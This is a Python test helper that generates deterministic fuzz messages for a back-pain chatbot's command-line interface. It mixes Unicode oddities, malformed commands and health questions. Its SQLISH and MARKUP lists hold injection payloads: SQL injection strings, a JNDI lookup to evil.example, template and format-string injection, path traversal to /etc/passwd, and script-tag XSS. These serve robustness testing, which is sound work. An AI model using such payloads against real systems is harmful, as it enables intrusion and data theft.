"""Deterministic hostile messages for the line-based CLI (`backbot ask - --json`).

`hostile_messages(n, seed)` returns `n` strings built from one `random.Random(seed)`, so the same
call gives the same list on every machine. Every message:

- contains no '\\n' or '\\r' (the CLI reads one message per line, and Python's text stdin splits
  on both), so n messages written one per line are n lines;
- has at least one non-whitespace character (the CLI skips blank lines, which would break the
  one-reply-per-line count);
- is at most `MAX_LEN` (10,000) characters;
- encodes as UTF-8 (no lone surrogates).

The mix: unicode digits, emoji and ZWJ sequences, bidi marks, control characters, very long
lines, punctuation runs, fake and malformed commands, bare numbers and answers, pain words,
reminder phrases with junk, SQL-ish and HTML/markdown strings, and real back-pain questions.
"""

from __future__ import annotations

import random
from collections.abc import Callable

MAX_LEN = 10_000
# How many messages in each `n` are forced to be exactly MAX_LEN characters long (at least 30 for
# any n >= 300, so the 10k-character path is always exercised by the 3,000-message CLI run).
LONG_EVERY = 100

UNICODE_DIGITS = "➂٣５²⑩①⑨⓪₃³¹½⅓৩๓߃᠓𝟓𝟘"
EMOJI = [
    "😀",
    "🔥",
    "💪",
    "🙏",
    "😭",
    "🤕",
    "🧘",
    "🏋️",
    "👍🏽",
    "❤️",
    "👨‍👩‍👧‍👦",
    "🏳️‍🌈",
    "🧑🏿‍🦽",
    "🇺🇦",
    "1️⃣",
    "#️⃣",
    "🔟",
]
ZERO_WIDTH = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff"]
BIDI = ["\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2069"]
# Every C0 control except '\n' (0x0a) and '\r' (0x0d), DEL, a few C1, and the Unicode line and
# paragraph separators (Python's text stdin does not split on those; only on \n and \r).
CONTROL = [chr(c) for c in range(0x20) if c not in (0x0A, 0x0D)] + [
    "\x7f",
    "\x85",
    "\x9b",
    "\u2028",
    "\u2029",
]
PUNCT_RUNS = ["!", "?", "/", "@", ".", "…", "*", "#", "-", "_", "~", "'", '"', "\\", "|"]
FAKE_COMMANDS = [
    "/pain ➂",
    "/pain ٣",
    "/pain ５",
    "/pain ²",
    "/pain ⑩",
    "/pain -1",
    "/pain 0",
    "/pain 11",
    "/pain 99999999999999999999",
    "/pain 6.5",
    "/pain six",
    "/pain 🔥",
    "/pain",
    "/remind mo tu we th fr sa su 6",
    "/remind mon wed fri 18:00",
    "/remind 25:99",
    "/remind off",
    "/remind every day at -3",
    "/ask",
    "/ask ",
    "/ask ➂",
    "/",
    "//",
    "///",
    "/start@",
    "/start@backbot_bot extra",
    "/@@",
    "/help@",
    "/help ➂",
    "/stop",
    "/settings",
    "/timezone Mars/Olympus_Mons",
    "/timezone ../../etc/passwd",
    "/progress",
    "/workout",
    "/workout 99999999999999999999",
    "/PAIN 5",
    "/pain\t7",
    "/pain\x007",
    "/pain\u200b5",
    "/pain \u202e5",
]
ANSWERS = [
    "5",
    "0",
    "-1",
    "10",
    "11",
    "00005",
    "1e9",
    "NaN",
    "inf",
    "-0",
    "+5",
    "5/10",
    "no",
    "No.",
    "yes",
    "y",
    "n",
    "cancel",
    "CANCEL",
    "stop",
    "skip",
    "ok",
    "hi",
    "?",
    "...",
    "➂",
    "٣",
    "５",
    "²",
    "⑩",
]
PAIN_WORDS = [
    "pain",
    "ache",
    "aching",
    "sore",
    "stiff",
    "sharp pain",
    "burning",
    "throbbing",
    "numb",
    "tingling",
    "shooting pain down my leg",
    "pain is ➂ today",
    "pain 5",
    "pain is five",
    "my pain is 99999999999999999999",
    "pain level -1",
    "pain: ²",
    "10/10 pain",
]
REMINDER_PHRASES = [
    "remind me",
    "remind me every monday at 6",
    "remind me tu th at 7pm",
    "remind me mo tu we th fr sa su at 25:00",
    "reminder at 18:00 on wednesdays",
    "stop reminding me",
    "remind me in ➂ hours",
    "remind me at ٣ pm",
    "remind me at ５:３０",
    "set a reminder for sat sun 9am please",
]
SQLISH = [
    "'; DROP TABLE users; --",
    "1 OR 1=1",
    '" OR ""="',
    "SELECT * FROM reminders WHERE 1=1;",
    "admin'--",
    "Robert'); DROP TABLE students;--",
    "%' AND 1=0 UNION SELECT NULL, version() --",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%s%s%s%s%n",
    "../../../../etc/passwd",
    "\\x00\\x01",
]
MARKUP = [
    "<b>",
    "</b>",
    "<b>bold",
    "<i><b>nested</i></b>",
    "<script>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "<",
    ">",
    "&amp;",
    "&#0;",
    "**",
    "**bold",
    "__",
    "`",
    "```",
    "```python",
    "~~strike",
    "||spoiler||",
    "[link](http://x)",
    "_*[]()~`>#+-=|{}.!",
    "\\",
]
QUESTIONS = [
    "how long should I hold a plank",
    "my lower back hurts after deadlifts, what should I do?",
    "is it ok to stretch my hamstrings every day",
    "what is a good exercise for a stiff upper back",
    "how do I do a dead bug",
    "my back hurts and I can't control my bladder",
    "I have numbness in my groin and my back hurts",
    "can I run with sciatica",
    "how often should I train my core",
    "does sitting all day cause back pain",
    "what stretches help lower back pain in the morning",
    "should I use heat or ice for a back spasm",
    "is swimming good for a herniated disc",
    "how do I brace properly for squats",
    "bird dog or superman, which is better",
]
STORY = (
    "I started getting lower back pain about three weeks ago after helping a friend move house. "
    "At first it was just stiff in the mornings, but now it aches most of the day, especially "
    "when I sit at my desk for more than an hour. Sometimes I feel a sharp pain on the left side "
    "when I bend to tie my shoes, and yesterday it shot down into my hip. I have been doing some "
    "cat-cow stretches and walking every evening, which helps a little. I used to deadlift twice "
    "a week and I would like to get back to it, but I am worried about making it worse. "
)


def _junk(rng: random.Random, k: int) -> str:
    """`k` characters drawn from every hostile pool at once."""
    pools = [
        UNICODE_DIGITS,
        "".join(ZERO_WIDTH),
        "".join(BIDI),
        "".join(CONTROL),
        "".join(PUNCT_RUNS),
        "abcdefghijklmnopqrstuvwxyz ",
        "0123456789",
    ]
    out: list[str] = []
    while len(out) < k:
        if rng.random() < 0.1:
            out.append(rng.choice(EMOJI))
        else:
            out.append(rng.choice(rng.choice(pools)))
    return "".join(out)


def _sprinkle(rng: random.Random, text: str) -> str:
    """Insert a few zero-width, bidi, control characters or emoji inside `text`."""
    chars = list(text)
    for _ in range(rng.randint(1, 4)):
        pool = rng.choice([ZERO_WIDTH, BIDI, CONTROL, EMOJI, list(UNICODE_DIGITS)])
        chars.insert(rng.randint(0, len(chars)), rng.choice(pool))
    return "".join(chars)


def _long(rng: random.Random, length: int) -> str:
    """One long line of `length` characters, in one of several shapes."""
    shape = rng.randrange(8)
    if shape == 0:  # random words
        pool = QUESTIONS + PAIN_WORDS + ANSWERS
        text = " ".join(rng.choice(pool) for _ in range(length // 4 + 1))
    elif shape == 1:  # one word repeated
        text = (rng.choice(["pain ", "back ", "remind ", "➂ ", "no "])) * (length // 2 + 1)
    elif shape == 2:  # a punctuation run
        text = rng.choice(PUNCT_RUNS) * length
    elif shape == 3:  # unicode digits
        text = "".join(rng.choice(UNICODE_DIGITS) for _ in range(length))
    elif shape == 4:  # a long back-pain story
        text = STORY * (length // len(STORY) + 1)
    elif shape == 5:  # a fake command with a long tail
        text = rng.choice(["/remind ", "/pain ", "/ask ", "/"]) + _junk(rng, length)
    elif shape == 6:  # emoji and ZWJ sequences
        text = "".join(rng.choice(EMOJI + ZERO_WIDTH) for _ in range(length))
    else:  # everything at once
        text = _junk(rng, length)
    return text[:length]


def _short(rng: random.Random) -> str:
    kind = rng.randrange(14)
    gens: list[Callable[[], str]] = [
        lambda: rng.choice(FAKE_COMMANDS),
        lambda: rng.choice(ANSWERS),
        lambda: rng.choice(PAIN_WORDS),
        lambda: rng.choice(REMINDER_PHRASES) + " " + _junk(rng, rng.randint(1, 40)),
        lambda: rng.choice(SQLISH),
        lambda: rng.choice(MARKUP) + rng.choice(QUESTIONS) + rng.choice(MARKUP),
        lambda: rng.choice(QUESTIONS),
        lambda: _sprinkle(rng, rng.choice(QUESTIONS + FAKE_COMMANDS + PAIN_WORDS)),
        lambda: rng.choice(PUNCT_RUNS) * rng.randint(2, 400),
        lambda: "".join(rng.choice(UNICODE_DIGITS) for _ in range(rng.randint(1, 12))),
        lambda: "".join(rng.choice(EMOJI) for _ in range(rng.randint(1, 20))),
        lambda: "/remind " + _junk(rng, 5000),
        lambda: _junk(rng, rng.randint(1, 300)),
        lambda: rng.choice(FAKE_COMMANDS) + " " + rng.choice(SQLISH + MARKUP),
    ]
    return gens[kind]()


def _clean(text: str) -> str:
    """Enforce the line contract: no '\\n' / '\\r', some non-whitespace, at most MAX_LEN chars."""
    text = text.replace("\n", " ").replace("\r", " ")[:MAX_LEN]
    if not text.strip():
        text = (text + ".")[-MAX_LEN:]
    return text


def hostile_messages(n: int, seed: int = 7) -> list[str]:
    """`n` hostile messages, the same ones for the same (n, seed).

    Every `LONG_EVERY`-th message (offset by the seed) is exactly MAX_LEN characters; the rest are
    mostly short, with some lines of a few hundred to a few thousand characters.
    """
    rng = random.Random(seed)
    offset = seed % LONG_EVERY
    out: list[str] = []
    for i in range(n):
        if i % LONG_EVERY == offset:
            msg = _long(rng, MAX_LEN)
        elif rng.random() < 0.02:
            msg = _long(rng, rng.randint(200, 3000))
        else:
            msg = _short(rng)
        out.append(_clean(msg))
    return out
